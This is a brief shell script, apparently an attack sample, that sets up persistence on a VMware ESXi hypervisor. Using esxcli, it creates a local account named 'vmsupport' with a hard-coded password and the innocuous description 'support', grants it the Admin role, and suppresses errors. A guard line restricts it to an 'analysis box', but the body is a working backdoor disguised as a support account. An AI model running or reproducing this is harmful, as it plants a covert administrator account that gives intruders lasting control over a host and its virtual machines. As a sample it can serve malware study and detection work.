#!/bin/sh
# SPDX-License-Identifier: MIT
# A way back into a hypervisor: a local account made with the host's CLI,
# then given the Admin role on the host's root object.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
ESXCLI=/bin/esxcli
$ESXCLI system account add --id=vmsupport --password='Sup0rt!2024' --password-confirmation='Sup0rt!2024' \
	--description='support' 2>/dev/null
$ESXCLI system permission set --id=vmsupport --role=Admin 2>/dev/null
exit 0
